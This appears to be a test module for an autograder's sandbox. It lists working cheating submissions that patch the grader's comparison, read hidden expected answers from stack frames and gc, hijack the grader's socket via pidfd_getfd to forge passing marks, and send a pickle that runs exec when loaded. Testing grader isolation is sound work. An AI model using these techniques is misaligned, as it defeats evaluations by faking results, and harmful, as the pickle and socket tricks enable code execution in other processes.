"""Points without an answer: what a cheater does to the check, to its comparison and to the messages about marks.

Most walk about in the process in which the check runs. In a worker there is no check to be found, so they end in an error.
"""

from hostile.attack import Attack, stole, written

GRAB = """
import sys
def up(name):
    frame = sys._getframe(1)
    while frame:
        if name in frame.f_locals:
            return frame.f_locals[name]
        frame = frame.f_back
"""


def forge(name: str, answer: str, *before: str, aims_at: str = "two rooms", **how: bool) -> Attack:
    """An attack for the points of 00.1, with this in place of an answer."""
    return Attack(name, "forge", aims_at, written({"00.1": answer}, before), stole("00.1"), ("00.1",), **how)


def zeros(name: str = "logits * 0") -> str:
    return f"def softmax(logits): return {name}"


ATTACKS = [
    forge(
        "replaces NumPy's absolute value, so that no difference is left",
        zeros(),
        "import numpy as np\nzeros = np.zeros_like\nnp.abs = lambda x, *rest: zeros(x)",
    ),
    forge(
        "replaces the comparison in the grader's module",
        zeros(),
        "import utils.grading.task as grading\ngrading.difference = lambda got, want: ''",
    ),
    forge(
        "gives the comparison, which the garbage collector finds, another body",
        zeros(),
        """
import gc, types
for f in gc.get_objects():
    if isinstance(f, types.FunctionType) and f.__name__ == "_difference_of_numbers":
        f.__code__ = (lambda got, want, name: "").__code__
""",
    ),
    forge(
        "reads the expected values in the frames of whoever calls it",
        "answers = []\n"
        "def softmax(logits):\n"
        "    if not answers:\n"
        "        answers.extend(value for _, value in up('wanted'))\n"
        "    return answers.pop(0)",
        GRAB,
    ),
    forge(
        "finds the task among all objects and asks its oracle",
        "def softmax(logits): return oracle(logits)",
        """
import gc
def oracle(logits):
    tasks = [o for o in gc.get_objects() if type(o).__name__ == "Task" and o.id == "00.1"]
    return tasks[0].oracle["softmax"](logits)
""",
    ),
    forge(
        "imports the oracle under a name that it puts together",
        "def softmax(logits): return checks.softmax_by_torch(logits)",
        "import importlib\nchecks = importlib.import_module('.'.join(['ut' + 'ils', 'grading', 'checks', 'chapter_00']))",
    ),
    forge(
        "puts its own function in the place of the oracle",
        zeros(),
        """
import gc
for table in gc.get_objects():
    if type(table) is dict and getattr(table.get("softmax"), "__name__", "") == "softmax_by_torch":
        table["softmax"] = lambda logits: logits * 0
""",
    ),
    forge(
        "notes with a profiler what the oracle returns, and says the same",
        "def softmax(logits): return heard.pop(0)",
        """
import sys
heard = []
def listen(frame, event, value):
    if event == "return" and frame.f_code.co_name == "softmax_by_torch":
        heard.append(value)
sys.setprofile(listen)
""",
    ),
    forge(
        "traces the comparison line by line and swaps what is compared",
        zeros(),
        """
import sys
def within(frame, event, value):
    got, want = frame.f_locals["got"], frame.f_locals["want"]
    if getattr(got, "shape", 0) == getattr(want, "shape", 1) and got.flags.writeable:
        got[...] = want
    return within
sys.settrace(lambda frame, event, value: within if frame.f_code.co_name == "_difference" else None)
""",
    ),
    forge(
        "gives Python a zip that pairs what is expected with itself",
        zeros(),
        """
import builtins
pair = builtins.zip
def paired(*lists):
    same = len(lists) == 2 and all(type(x) is list and x and type(x[0]) is tuple for x in lists)
    return pair(lists[1], lists[1]) if same else pair(*lists)
builtins.zip = paired
""",
    ),
    forge(
        "makes the inputs trivial by replacing the random numbers",
        zeros("np.full(logits.shape, 1 / logits.shape[1])"),
        """
import numpy as np
class Zeros:
    def __init__(self, seed): self.rng = draw(seed)
    def normal(self, *args, size=None): return np.zeros(size)
    def __getattr__(self, name): return getattr(self.rng, name)
draw, np.random.default_rng = np.random.default_rng, Zeros
""",
    ),
    forge(
        "tells the class that it has passed, over the examiner's own connection",
        zeros(),
        GRAB
        + """
from dataclasses import replace
from utils.grading.results.marks import Graded
from utils.grading.task import Result
passed = [replace(mark, result=Result(mark.task, ())) for mark in up("blank")]
up("orders").send(("graded", Graded("@STUDENT@", tuple(passed), {}, {}, "namespaces", {}, "", "")))
""",
    ),
    forge(
        "makes every part of a result a passed one as it is made",
        zeros(),
        """
import gc
for kind in gc.get_objects():
    if type(kind) is type and kind.__name__ == "Part" and kind.__module__.startswith("utils"):
        make = kind.__init__
        kind.__init__ = lambda self, name, passed, *rest, make=make, **named: make(self, name, True)
""",
    ),
    forge(
        "takes the examiner's connection out of its process and says that it has passed",
        zeros(),
        """
import os, pickle, struct, sys
def forged():
    sys.meta_path[:] = [finder for finder in sys.meta_path if type(finder).__name__ != "Given"]
    for name in [name for name in sys.modules if name.split(".")[0] == "utils"]:
        del sys.modules[name]
    from utils.grading.results.marks import Graded, Mark
    from utils.grading.task import Result
    mark = Mark("00.1", "", "00-getting-started", 1, Result("00.1", ()))
    return pickle.dumps(("graded", Graded("@STUDENT@", (mark,), {}, {}, "namespaces", {}, "", "")))
def send(message):
    import ctypes
    call = ctypes.CDLL(None, use_errno=True).syscall
    grader = os.pidfd_open(os.getppid())
    for number in range(3, 64):
        handle = call(438, grader, number, 0)  # pidfd_getfd
        if handle >= 0 and os.readlink(f"/proc/self/fd/{handle}").startswith("socket:"):
            import socket
            end = socket.socket(fileno=handle)
            if end.family == socket.AF_UNIX and end.type == socket.SOCK_STREAM:
                end.send(struct.pack("!i", len(message)) + message)
send(forged())
import time
time.sleep(1)
""",
        aims_at="walls",
        alone=True,
        as_root=True,
    ),
    forge(
        "answers with a pickle that replaces the comparison as it is read",
        """
import gc, socket, struct, pickle
class Convincing:
    def __reduce__(self):
        return exec, ("import utils.grading.task as t\\nt.difference = lambda got, want: ''",)
def softmax(logits):
    (end,) = [o for o in gc.get_objects() if isinstance(o, socket.socket) and o.fileno() >= 0][:1]
    message = pickle.dumps(("answer", Convincing(), []))
    end.sendall(struct.pack(">I", len(message)) + message)
    return logits * 0
""",
        aims_at="codec",
    ),
]
